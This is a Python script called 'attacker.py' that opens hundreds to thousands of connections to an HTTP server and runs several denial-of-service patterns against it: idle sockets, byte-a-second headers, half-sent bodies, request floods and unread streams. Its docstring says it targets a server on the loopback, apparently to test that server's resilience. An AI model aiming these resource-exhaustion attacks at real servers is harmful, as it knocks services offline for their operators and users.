"""The attacker: ``attacker.py NAME URL NUMBER`` attacks a server on the loopback until it is ended."""

import asyncio
import itertools
import resource
import sys
from collections.abc import Awaitable, Callable
from urllib.parse import urlsplit

HEAD = "{call} {path} HTTP/1.1\r\nHost: {place}\r\n"
JSON = "Content-Type: application/json\r\nContent-Length: {n}\r\n\r\n"


class Attack:
    """Bytes that an attacker sends on many connections, again where they are cut."""

    def __init__(self, url: str, address: str) -> None:
        self.address = address
        parts = urlsplit(url)
        self.place, self.host, self.port, self.path = parts.netloc, parts.hostname or "", parts.port or 80, parts.path

    def head(self, call: str, path: str) -> str:
        """The first two lines of a request."""
        return HEAD.format(call=call, path=self.path + path, place=self.place)

    async def on(
        self, count: int, act: Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[object]]
    ) -> None:
        """Keep so many connections at it until the process is ended."""

        async def one() -> None:
            while True:
                try:
                    made = await asyncio.open_connection(self.host, self.port, local_addr=(self.address, 0))
                    try:
                        await act(*made)
                    finally:
                        made[1].transport.abort()
                except (OSError, EOFError):
                    pass
                await asyncio.sleep(1)

        await asyncio.gather(*(one() for _ in range(count)))

    async def idle(self) -> None:
        """2,000 connections that say nothing."""
        await self.on(2000, lambda reader, _: reader.read())

    async def slow_heads(self) -> None:
        """500 heads, a byte a second."""

        async def drip(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            for letter in itertools.chain(self.head("GET", "/state"), itertools.repeat("x")):
                writer.write(letter.encode())
                await writer.drain()
                await asyncio.sleep(1)

        await self.on(500, drip)

    async def slow_bodies(self) -> None:
        """500 bodies of which half never comes."""

        async def half(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            writer.write((self.head("POST", "/join") + JSON.format(n=100) + "{").encode())
            await reader.read()

        await self.on(500, half)

    async def joins(self) -> None:
        """Joining without end, on 50 connections."""
        request = (self.head("POST", "/join") + JSON.format(n=2) + "{}").encode()

        async def join(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            for _ in range(20):
                writer.write(request)
                await reader.readuntil(b"}")

        await self.on(50, join)

    async def pages(self) -> None:
        """Asking for the page without end and reading nothing, on 50 connections."""
        request = (self.head("GET", "") + "\r\n").encode()

        async def ask(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            writer.transport.pause_reading()  # type: ignore[attr-defined]
            while True:
                writer.write(request)
                await writer.drain()
                await asyncio.sleep(0.05)

        await self.on(50, ask)

    async def deaf(self) -> None:
        """1,000 streams that nobody reads."""
        request = (self.head("GET", "/events") + "\r\n").encode()

        async def listen(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            writer.transport.pause_reading()  # type: ignore[attr-defined]
            writer.write(request)
            await asyncio.sleep(60)

        await self.on(1000, listen)


ATTACKS = ("idle", "slow_heads", "slow_bodies", "joins", "pages", "deaf")


if __name__ == "__main__":
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(8192, hard), hard))
    print("on", flush=True)
    asyncio.run(getattr(Attack(sys.argv[2], f"127.0.1.{sys.argv[3]}"), sys.argv[1])())
